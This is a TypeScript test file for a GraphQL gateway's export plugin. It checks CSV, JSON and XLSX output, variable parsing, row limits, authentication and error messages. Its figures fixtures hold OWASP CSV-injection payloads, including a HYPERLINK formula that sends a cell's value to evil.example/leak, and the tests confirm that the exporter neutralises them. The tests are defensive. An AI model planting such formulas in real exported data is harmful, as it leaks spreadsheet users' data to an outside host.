// useExport alone: GET /export/<Operation>.csv|json|xlsx runs a trusted operation through
// the gateway by its hash, with variables from the query string, and gives its lists as
// rows (RFC 4180 CSV with a byte order mark, JSON, or an XLSX sheet per list), one dotted
// column per selected leaf; GET /export/figures.<format> gives every published figure
// across the departments; a cell that would run as a formula is neutralised; a bad
// request gets a 4xx that says what was wrong.
import fs from "node:fs";
import { parse as parseCsv } from "csv-parse/sync";
import { unzipSync, strFromU8 } from "fflate";
import { parse } from "graphql";
import readXlsxFile from "read-excel-file/node";
import { afterAll, describe, expect, it } from "vitest";
import { useAutomaticPersistedQueries } from "../../src/plugins/useAutomaticPersistedQueries.js";
import { useCallerIdentity } from "../../src/plugins/useCallerIdentity.js";
import { useExport } from "../../src/plugins/useExport.js";
import { sha256 } from "../../src/trustedDocuments.js";
import { generateGatewayKeyPair } from "@gcm-hub/platform";
import { SignJWT } from "jose";
import { createPluginHarness, type InlineSubgraph, type PluginHarness } from "./harness.js";

const countries = [
  { iso: "CV", name: "Cabo Verde" },
  { iso: "IN", name: "India" },
  { iso: "BR", name: "Brasil" },
  { iso: "MA", name: "Marrocos" },
];
const agreements = [
  { code: "LMA_INDIA", kind: "MOBILITY", title: "Labour mobility agreement", countries: [countries[1]], signedYear: 2021, note: null },
  { code: "SS_CV_BR", kind: "SOCIAL_SECURITY", title: 'Convention "Lusófona", phase 2', countries: [countries[0], countries[2]], signedYear: null, note: "ACM\u2013IHRU housing protocol" },
  { code: "LMA_MOROCCO", kind: "MOBILITY", title: "Agreement\non two lines", countries: [countries[3]], signedYear: 2023, note: "" },
];

const CATALOGUE: InlineSubgraph = {
  name: "catalogue",
  typeDefs: `
    type Query {
      countries: [Country!]!
      country(iso: String!): Country
      agreements(first: Int, kinds: [Kind!], minimum: Float, signed: Boolean): AgreementConnection!
    }
    enum Kind { MOBILITY SOCIAL_SECURITY }
    type Country { iso: String!  name: String! }
    type AgreementConnection { edges: [AgreementEdge!]! }
    type AgreementEdge { node: Agreement! }
    type Agreement { code: String!  title: String!  countries: [Country!]!  signedYear: Int  note: String }`,
  resolvers: {
    Query: {
      countries: () => countries,
      country: (_: unknown, { iso }: { iso: string }) => countries.find((country) => country.iso === iso) ?? null,
      agreements: (_: unknown, { first, kinds }: { first?: number; kinds?: string[] }) => ({
        edges: agreements.filter((agreement) => !kinds || kinds.includes(agreement.kind)).slice(0, first ?? undefined).map((node) => ({ node })),
      }),
    },
  },
};

const documents = [
  "query Agreements($first: Int, $kinds: [Kind!], $minimum: Float, $signed: Boolean) { agreements(first: $first, kinds: $kinds, minimum: $minimum, signed: $signed) { edges { node { code title countries { iso name } signedYear note } } } }",
  "query CountryProfile($iso: String!) { country(iso: $iso) { iso name } }",
  "query Overview { countries { iso name } agreements { edges { node { ...Codes } } } } fragment Codes on Agreement { code signedYear }",
  "query AgreementCountries($first: Int) { agreements(first: $first) { edges { node { code countries { name iso } } } } }",
];
/** A trusted text as codegen writes it (every selection sorted), and the operation as written, whose order the columns follow. */
const SORTED = "query Sorted { agreements { edges { node { code countries { iso name } signedYear title } } } }";
const WRITTEN = "query Sorted { agreements { edges { node { title signedYear code countries { name iso } } } } }";
const trusted = new Map([...documents, SORTED].map((document) => [sha256(document), document]));
const SECRET = "a-development-secret-of-at-least-32-characters";

const gateway: PluginHarness = createPluginHarness({
  subgraphs: [CATALOGUE],
  plugins: () => [
    useExport({
      trusted,
      run: (request) => Promise.resolve(gateway.runtime.fetch(request)),
      graphqlEndpoint: "/graphql",
      maxRows: 3,
      writtenDocuments: async () => new Map([[sha256(SORTED), parse(WRITTEN)]]),
    }),
    useCallerIdentity({ verification: { key: { secret: SECRET }, issuer: "gcm-hub", audience: "gcm-hub", maxAgeSeconds: 3600, clockToleranceSeconds: 0 }, signingKey: generateGatewayKeyPair().privateKey }),
    useAutomaticPersistedQueries({ trusted }),
  ],
});
afterAll(() => gateway[Symbol.asyncDispose]());

async function download(path: string, init?: RequestInit) {
  const response = await gateway.fetch(path, init);
  const bytes = new Uint8Array(await response.arrayBuffer());
  // ignoreBOM: keep the byte order mark in the text, as a spreadsheet program sees it.
  return { response, bytes, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes) };
}
/** How many rows each sheet of a workbook freezes (its <pane ySplit> with state frozen). */
function frozenRows(bytes: Uint8Array): number[] {
  const files = unzipSync(bytes);
  return Object.keys(files)
    .filter((name) => /^xl\/worksheets\/sheet\d+\.xml$/.test(name))
    .sort()
    .map((name) => {
      const pane = /<pane [^>]*>/.exec(strFromU8(files[name]!))?.[0] ?? "";
      return pane.includes('state="frozen"') ? Number(/ySplit="(\d+)"/.exec(pane)?.[1] ?? 0) : 0;
    });
}
/** RFC 4180 as a spreadsheet reads it (records end in CRLF; quoted fields may hold commas, quotes and line breaks). */
const csvRows = (text: string): string[][] => parseCsv(text.replace(/^\uFEFF/, ""), { record_delimiter: "\r\n" });

describe("useExport", () => {
  it("gives the main list as CSV: byte order mark, the operation's leaves as dotted columns in its order, an edge's node, nested lists joined", async () => {
    const { response, bytes, text } = await download("/export/Agreements.csv");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="Agreements.csv"');
    expect(response.headers.get("cache-control")).toBe("no-cache");
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csvRows(text)).toEqual([
      ["code", "title", "countries.iso", "countries.name", "signedYear", "note"],
      ["LMA_INDIA", "Labour mobility agreement", "IN", "India", "2021", ""],
      ["SS_CV_BR", 'Convention "Lusófona", phase 2', "CV; BR", "Cabo Verde; Brasil", "", "ACM\u2013IHRU housing protocol"],
      ["LMA_MOROCCO", "Agreement\non two lines", "MA", "Marrocos", "2023", ""],
    ]);
    // Quoted as RFC 4180 quotes: a field holding a quote, a comma or a line break.
    expect(text).toContain('\r\nSS_CV_BR,"Convention ""Lusófona"", phase 2",CV; BR,');
    expect(text.endsWith("\r\n")).toBe(true);
  });

  it("gives the same rows as JSON, a number as a number, a missing leaf as null", async () => {
    const { response, text } = await download("/export/Agreements.json?first=2");
    expect(response.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(JSON.parse(text)).toEqual([
      { code: "LMA_INDIA", title: "Labour mobility agreement", "countries.iso": "IN", "countries.name": "India", signedYear: 2021, note: null },
      { code: "SS_CV_BR", title: 'Convention "Lusófona", phase 2', "countries.iso": "CV; BR", "countries.name": "Cabo Verde; Brasil", signedYear: null, note: "ACM\u2013IHRU housing protocol" },
    ]);
  });

  it("takes variables from the query string, a list variable by repeating it", async () => {
    const { text } = await download("/export/Agreements.csv?kinds=MOBILITY&kinds=SOCIAL_SECURITY&first=2&minimum=1.5&signed=true");
    expect(csvRows(text).slice(1).map((row) => row[0])).toEqual(["LMA_INDIA", "SS_CV_BR"]);
    const { text: mobility } = await download("/export/Agreements.csv?kinds=MOBILITY");
    expect(csvRows(mobility).slice(1).map((row) => row[0])).toEqual(["LMA_INDIA", "LMA_MOROCCO"]);
  });

  it("exports the list ?list= names, its columns through fragments", async () => {
    expect(csvRows((await download("/export/Overview.csv?list=agreements.edges")).text)).toEqual([["code", "signedYear"], ["LMA_INDIA", "2021"], ["SS_CV_BR", ""], ["LMA_MOROCCO", "2023"]]);
  });

  it("exports a connection's nodes with list= naming the connection, and a list reached through lists", async () => {
    const byConnection = csvRows((await download("/export/Overview.csv?list=agreements")).text);
    expect(byConnection).toEqual(csvRows((await download("/export/Overview.csv?list=agreements.edges")).text));
    expect(byConnection[0]).toEqual(["code", "signedYear"]);
    expect(csvRows((await download("/export/AgreementCountries.csv?first=2&list=agreements.edges.node.countries")).text)).toEqual([
      ["name", "iso"],
      ["India", "IN"],
      ["Cabo Verde", "CV"],
      ["Brasil", "BR"],
    ]);
  });

  it("orders the columns as the operation is written, not as the trusted text's sorted selections", async () => {
    const [header] = csvRows((await download("/export/Sorted.csv")).text);
    expect(header).toEqual(["title", "signedYear", "code", "countries.name", "countries.iso"]);
  });

  it("writes CSV with a semicolon for a spreadsheet set to a Portuguese locale, quoting a field that holds one", async () => {
    const { text } = await download("/export/Agreements.csv?delimiter=%3B&first=2");
    expect(text.split("\r\n")[0]).toBe("\uFEFFcode;title;countries.iso;countries.name;signedYear;note");
    expect(text).toContain('\r\nSS_CV_BR;"Convention ""Lusófona"", phase 2";"CV; BR";"Cabo Verde; Brasil";;');
    expect(parseCsv(text.replace(/^\uFEFF/, ""), { delimiter: ";", record_delimiter: "\r\n" })[2]).toEqual(["SS_CV_BR", 'Convention "Lusófona", phase 2', "CV; BR", "Cabo Verde; Brasil", "", "ACM\u2013IHRU housing protocol"]);
    expect(csvRows((await download("/export/Agreements.csv?delimiter=%2C&first=1")).text)[1]![0]).toBe("LMA_INDIA");
  });

  it("writes XLSX: a sheet per list, numbers in numeric cells, a frozen header row", async () => {
    const { response, bytes } = await download("/export/Agreements.xlsx?first=2");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="Agreements.xlsx"');
    const sheets = await readXlsxFile(Buffer.from(bytes));
    expect(sheets.map((sheet) => sheet.sheet)).toEqual(["agreements"]);
    expect(sheets[0]!.data).toEqual([
      ["code", "title", "countries.iso", "countries.name", "signedYear", "note"],
      ["LMA_INDIA", "Labour mobility agreement", "IN", "India", 2021, null],
      ["SS_CV_BR", 'Convention "Lusófona", phase 2', "CV; BR", "Cabo Verde; Brasil", null, "ACM\u2013IHRU housing protocol"],
    ]);
    expect(frozenRows(bytes)).toEqual([1]);
    const several = await readXlsxFile(Buffer.from((await download("/export/AgreementCountries.xlsx?first=1&list=agreements&list=agreements.edges.node.countries")).bytes));
    expect(several.map((sheet) => [sheet.sheet, sheet.data.length])).toEqual([
      ["agreements", 2],
      ["agreements.edges.node.countries", 2],
    ]);
    // All sheets together are held to the row limit (3 here).
    const over = await download("/export/AgreementCountries.xlsx?first=2&list=agreements&list=agreements.edges.node.countries");
    expect(over.response.status).toBe(413);
    expect(JSON.parse(over.text).errors[0].message).toBe("agreements has 2 rows, agreements.edges.node.countries has 3 rows, over the export limit of 3; narrow it with the list parameter or the operation's variables");
  });

  it("marks a caller's export private, and refuses a bad token as the graph does", async () => {
    const now = Math.floor(Date.now() / 1000);
    const valid = await new SignJWT({ subgraph: "labour", scope: "write" }).setProtectedHeader({ alg: "HS256" }).setIssuer("gcm-hub").setAudience("gcm-hub").setSubject("ana").setIssuedAt(now).setExpirationTime(now + 600).sign(new TextEncoder().encode(SECRET));
    const { response } = await download("/export/Agreements.csv", { headers: { authorization: `Bearer ${valid}` } });
    expect(response.status).toBe(200);
    expect(response.headers.get("cache-control")).toBe("private, no-store");
    const refused = await download("/export/Agreements.csv", { headers: { authorization: "Bearer not-a-token" } });
    expect(refused.response.status).toBe(401);
    expect(JSON.parse(refused.text).errors[0].extensions.code).toBe("UNAUTHENTICATED");
  });

  it("answers a bad request with a 4xx that says what was wrong", async () => {
    const cases: [string, number, RegExp][] = [
      ["/export/%E0%A4%A.csv", 400, /not valid percent-encoding/],
      ["/export/NoSuchOperation.csv", 404, /^No trusted operation named "NoSuchOperation"; exports run the trusted queries: AgreementCountries, Agreements, CountryProfile, Overview, Sorted, and \/export\/figures.<format> gives every figure$/],
      ["/export/Agreements.csv?first=five", 400, /^Variable "first" must be a whole number, got "five"$/],
      ["/export/Agreements.csv?minimum=lots", 400, /^Variable "minimum" must be a number, got "lots"$/],
      ["/export/Agreements.csv?signed=yes", 400, /^Variable "signed" must be true or false, got "yes"$/],
      ["/export/Agreements.csv?colour=red", 400, /^Unknown parameter "colour"; this operation's variables are: first, kinds, minimum, signed \(and "list" picks the list, "delimiter" the CSV's separator\)$/],
      ["/export/CountryProfile.csv?iso=CV", 400, /^The operation's result has no list of records to export$/],
      ["/export/CountryProfile.csv?iso=CV&list=country.name", 400, /"country.name" is not a list/],
      // Without ?list, the first list in the result: countries.
      ["/export/Overview.csv", 413, /^countries has 4 rows, over the export limit of 3; narrow it with the operation's variables$/],
      ["/export/Agreements.csv?kinds=NOPE", 400, /kinds/],
      ["/export/CountryProfile.csv", 400, /iso/],
      ["/export/Agreements.pdf", 400, /^Unknown export format "pdf"; exports are: csv, json, xlsx$/],
      ["/export/Agreements.", 400, /^Unknown export format ""; exports are: csv, json, xlsx$/],
      ["/export/Agreements.csv?delimiter=%7C", 400, /^Unknown delimiter "\|"; a CSV's delimiter is one of: , ; tab$/],
      ["/export/Agreements.json?delimiter=%3B", 400, /^"delimiter" applies to CSV only, not JSON$/],
      ["/export/Overview.csv?list=countries&list=agreements", 400, /^"list" is given 2 times; a CSV holds one list \(an .xlsx holds one sheet per list\)$/],
      ["/export/Overview.csv?list=agreement", 400, /^"agreement" is not a list the operation selects; its lists are: countries, agreements \(a dotted path/],
      ["/export/figures.csv", 404, /^The figures sheet needs the hub's trusted operation FigureSheet, which this gateway's trusted documents lack \(npm run codegen\)$/],
    ];
    for (const [path, status, message] of cases) {
      const { response, text } = await download(path);
      expect(response.status, path).toBe(status);
      expect(JSON.parse(text).errors[0].message, path).toMatch(message);
    }
    expect((await download("/export/Agreements.csv", { method: "POST" })).response.status).toBe(405);
  });
});

// The figures sheet: FigureSheet as codegen registers it, over departments whose figures
// carry what a department user could record and publish: OWASP's CSV injection payloads.
const HYPERLINK = '=HYPERLINK("http://evil.example/leak?d="&B3,"Source")';
// The report's words for a period: its label, as the report words it.
const period = (kind: string, start: string | null, end: string | null, label: string) => ({ kind, start, end, label, quote: label });
const figure = (id: string, fields: Partial<Record<string, unknown>> = {}) => ({
  id,
  status: "PUBLISHED",
  objective: null,
  label: `Figure ${id}`,
  value: 1,
  unit: "people",
  qualifier: "EXACT",
  statedPeriod: null,
  source: { reference: `Section ${id}`, quote: `the report on ${id}` },
  ...fields,
});
const FIGURES_BY_FIELD: Record<string, ReturnType<typeof figure>[]> = {
  planFigures: [figure("plan.measures", { value: 97, unit: "measures" })],
  borderFigures: [
    figure("border.hyperlink", { label: HYPERLINK, value: 500, objective: { number: 13 }, qualifier: "MORE_THAN", statedPeriod: period("SINCE", "2020-11", null, "since November 2020") }),
    figure("border.draft", { status: "DRAFT" }),
    figure("border.balance", { label: "-5 net change in the year", value: -5, statedPeriod: period("DURING", "2020", "2020", "2020"), source: { reference: "Section II", quote: "+5 in, 10 out" } }),
    // Pages that only the border department would see.
    ...Array.from({ length: 10 }, (_, index) => figure(`border.draft${index}`, { status: "DRAFT" })),
  ],
  integrationFigures: [
    figure("integration.at", { objective: { number: 7 }, unit: "@people", statedPeriod: period("UP_TO", null, "2021-12", "by the end of 2021"), source: { reference: "\tSection II", quote: "-1 against the year before" } }),
  ],
  diasporaFigures: [figure("diaspora.offices", { objective: { number: 14 }, value: 187.5, statedPeriod: period("AS_OF", null, "2021-12", "at the end of 2021"), source: { reference: "\r=1+2", quote: "187 GAE protocols" } })],
  labourFigures: [],
  socialProtectionFigures: [figure("social.plain", { objective: { number: 22 } })],
};
/** Border pages two figures at a time, so the export must follow its cursor. */
const PAGE_SIZE = 2;
const FIGURE_FIELDS = Object.keys(FIGURES_BY_FIELD).filter((field) => field !== "planFigures");

const FIGURES: InlineSubgraph = {
  name: "figures",
  typeDefs: `
    type Query {
      planFigures: [Observation!]
      ${FIGURE_FIELDS.map((field) => `${field}(after: String, filter: FigureFilter, first: Int = 20): ObservationConnection`).join("\n")}
    }
    input FigureFilter { objective: Int }
    type Objective @key(fields: "number") { number: Int!  title: String! }
    type Observation { id: ID!  status: String!  objective: Objective  label: String!  value: Float!  unit: String!  qualifier: String!  statedPeriod: FigurePeriod  source: Source! }
    type FigurePeriod { kind: String!  start: String  end: String  label: String!  quote: String }
    type Source { reference: String!  quote: String! }
    type ObservationConnection { pageInfo: PageInfo!  edges: [ObservationEdge!]! }
    type PageInfo { hasNextPage: Boolean!  endCursor: String }
    type ObservationEdge { node: Observation! }`,
  resolvers: {
    Query: {
      planFigures: () => FIGURES_BY_FIELD.planFigures,
      ...Object.fromEntries(
        FIGURE_FIELDS.map((field) => [
          field,
          (_: unknown, { after }: { after?: string }) => {
            const start = after ? Number(after) : 0;
            const page = FIGURES_BY_FIELD[field]!.slice(start, start + PAGE_SIZE);
            const hasNextPage = start + PAGE_SIZE < FIGURES_BY_FIELD[field]!.length;
            return { pageInfo: { hasNextPage, endCursor: String(start + page.length) }, edges: page.map((node) => ({ node })) };
          },
        ]),
      ),
    },
    Objective: { title: ({ number }: { number: number }) => `Objective ${number}`, __resolveReference: ({ number }: { number: number }) => ({ number }) },
  },
};
const FIGURE_SHEET = fs.readFileSync(new URL("../../src/operations/FigureSheet.graphql", import.meta.url), "utf8");

function figureGateway(maxRows: number): PluginHarness {
  const sheetTrusted = new Map([[sha256(FIGURE_SHEET), FIGURE_SHEET]]);
  const harness: PluginHarness = createPluginHarness({
    subgraphs: [FIGURES],
    plugins: () => [
      useExport({ trusted: sheetTrusted, run: (request) => Promise.resolve(harness.runtime.fetch(request)), graphqlEndpoint: "/graphql", maxRows }),
      useAutomaticPersistedQueries({ trusted: sheetTrusted }),
    ],
  });
  return harness;
}
const figures = figureGateway(50);
const fewRows = figureGateway(4);
/** Reads at most 10 figures for its 1 row: border's second page is not read. */
const oneRow = figureGateway(1);
afterAll(() => Promise.all([figures, fewRows, oneRow].map((harness) => harness[Symbol.asyncDispose]())));

async function figureDownload(path: string, harness = figures) {
  const response = await harness.fetch(path);
  const bytes = new Uint8Array(await response.arrayBuffer());
  return { response, bytes, text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes) };
}

const FIGURE_HEADER = ["department", "objective", "objectiveTitle", "id", "label", "value", "unit", "qualifier", "periodKind", "periodStart", "periodEnd", "periodLabel", "periodQuote", "sourceReference", "sourceQuote"];

describe("the figures sheet", () => {
  it("gives every published figure across the departments, in the documented columns, a null period as 'no period given' and empty cells, every page of a department", async () => {
    const { response, text } = await figureDownload("/export/figures.csv");
    expect(response.status, text).toBe(200);
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="figures.csv"');
    expect(csvRows(text)).toEqual([
      FIGURE_HEADER,
      ["plan", "", "", "plan.measures", "Figure plan.measures", "97", "measures", "EXACT", "", "", "", "no period given", "", "Section plan.measures", "the report on plan.measures"],
      ["border", "13", "Objective 13", "border.hyperlink", `'${HYPERLINK}`, "500", "people", "MORE_THAN", "SINCE", "2020-11", "", "since November 2020", "since November 2020", "Section border.hyperlink", "the report on border.hyperlink"],
      // Past the first page of two; the draft between is left out.
      ["border", "", "", "border.balance", "'-5 net change in the year", "-5", "people", "EXACT", "DURING", "2020", "2020", "2020", "2020", "Section II", "'+5 in, 10 out"],
      ["integration", "7", "Objective 7", "integration.at", "Figure integration.at", "1", "'@people", "EXACT", "UP_TO", "", "2021-12", "by the end of 2021", "by the end of 2021", "'\tSection II", "'-1 against the year before"],
      ["diaspora", "14", "Objective 14", "diaspora.offices", "Figure diaspora.offices", "187.5", "people", "EXACT", "AS_OF", "", "2021-12", "at the end of 2021", "at the end of 2021", "'\r=1+2", "187 GAE protocols"],
      ["social", "22", "Objective 22", "social.plain", "Figure social.plain", "1", "people", "EXACT", "", "", "", "no period given", "", "Section social.plain", "the report on social.plain"],
    ]);
    // OWASP: a neutralised field is quoted too; a negative number is a number, written as one.
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/leak?d=""&B3,""Source"")",500,`);
    expect(text).toContain(`,"'-5 net change in the year",-5,people,`);
  });

  it("filters by department, objective and year (the years a stated period touches)", async () => {
    const ids = async (query: string) => csvRows((await figureDownload(`/export/figures.csv?${query}`)).text).slice(1).map((row) => row[3]);
    expect(await ids("department=border&department=social")).toEqual(["border.hyperlink", "border.balance", "social.plain"]);
    expect(await ids("objective=7&objective=13")).toEqual(["border.hyperlink", "integration.at"]);
    // SINCE 2020-11 runs to the report (2022); UP_TO 2021-12 from any year before; AS_OF is its date; no period touches no year.
    expect(await ids("year=2021")).toEqual(["border.hyperlink", "integration.at", "diaspora.offices"]);
    expect(await ids("year=2020")).toEqual(["border.hyperlink", "border.balance", "integration.at"]);
    expect(await ids("year=2022")).toEqual(["border.hyperlink"]);
    const semicolons = (await figureDownload("/export/figures.csv?department=diaspora&year=2021&delimiter=%3B")).text;
    expect(parseCsv(semicolons.replace(/^\uFEFF/, ""), { delimiter: ";", record_delimiter: "\r\n" }).map((row: string[]) => row[3])).toEqual(["id", "diaspora.offices"]);
  });

  it("gives XLSX with numbers in numeric cells, formulas neutralised, a frozen header, and a sheet of the sources", async () => {
    const { response, bytes } = await figureDownload("/export/figures.xlsx?department=border&department=integration");
    expect(response.status).toBe(200);
    const [sheet, sources, ...rest] = await readXlsxFile(Buffer.from(bytes));
    expect(rest).toEqual([]);
    expect(sheet!.sheet).toBe("figures");
    expect(sheet!.data[0]).toEqual(FIGURE_HEADER);
    expect(sheet!.data.slice(1).map((row) => [row[4], row[5], row[6], row[13], row[14]])).toEqual([
      [`'${HYPERLINK}`, 500, "people", "Section border.hyperlink", "the report on border.hyperlink"],
      ["'-5 net change in the year", -5, "people", "Section II", "'+5 in, 10 out"],
      ["Figure integration.at", 1, "'@people", "'\tSection II", "'-1 against the year before"],
    ]);
    expect(sources!.sheet).toBe("sources");
    expect(sources!.data).toEqual([
      ["reference", "quote", "rows"],
      ["Section border.hyperlink", "the report on border.hyperlink", 1],
      ["Section II", "'+5 in, 10 out", 1],
      ["'\tSection II", "'-1 against the year before", 1],
    ]);
    expect(frozenRows(bytes)).toEqual([1, 1]);
    // No cell of the workbook is a formula.
    const files = unzipSync(bytes);
    expect(Object.entries(files).filter(([name, content]) => name.startsWith("xl/worksheets/") && strFromU8(content).includes("<f>"))).toEqual([]);
  });

  it("gives JSON as data: numbers as numbers, text as the department recorded it", async () => {
    const rows = JSON.parse((await figureDownload("/export/figures.json?department=border")).text);
    expect(rows.map((row: Record<string, unknown>) => [row.label, row.value, row.periodEnd, row.sourceQuote])).toEqual([
      [HYPERLINK, 500, null, "the report on border.hyperlink"],
      ["-5 net change in the year", -5, "2020", "+5 in, 10 out"],
    ]);
    expect(Object.keys(rows[0])).toEqual(FIGURE_HEADER);
  });

  it("refuses bad filters and a sheet over the row limit with a 4xx that says what was wrong", async () => {
    const cases: [string, number, string, PluginHarness?][] = [
      ["/export/figures.csv?department=health", 400, 'Unknown department "health"; the departments are: plan, border, integration, diaspora, labour, social'],
      ["/export/figures.csv?objective=24", 400, 'Parameter "objective" must be an objective\'s number, 1 to 23, got "24"'],
      ["/export/figures.csv?year=last", 400, 'Parameter "year" must be a year such as 2021, got "last"'],
      ["/export/figures.csv?year=2020&year=2021", 400, 'Parameter "year" is given 2 times; give one year'],
      ["/export/figures.csv?period=2021", 400, 'Unknown parameter "period"; the figures sheet filters by: department, objective, year (and "delimiter")'],
      ["/export/figures.csv?list=figures", 400, 'The figures sheet is one list; "list" applies to an operation\'s export'],
      ["/export/figures.ods", 400, 'Unknown export format "ods"; exports are: csv, json, xlsx'],
      ["/export/figures.xlsx?delimiter=%3B", 400, '"delimiter" applies to CSV only, not XLSX'],
      ["/export/figures.csv", 413, "figures has 6 rows, over the export limit of 4; narrow it with department, objective or year", fewRows],
      ["/export/figures.csv?objective=22", 413, "The departments have over 10 figures, 10 times the export limit of 1 rows; narrow it with department", oneRow],
    ];
    for (const [path, status, message, harness] of cases) {
      const { response, text } = await figureDownload(path, harness);
      expect(response.status, path).toBe(status);
      expect(JSON.parse(text).errors[0].message, path).toBe(message);
    }
    expect((await figureDownload("/export/figures.csv?department=border", fewRows)).response.status).toBe(200);
    expect(csvRows((await figureDownload("/export/figures.csv?department=social", oneRow)).text)).toHaveLength(2);
  });
});
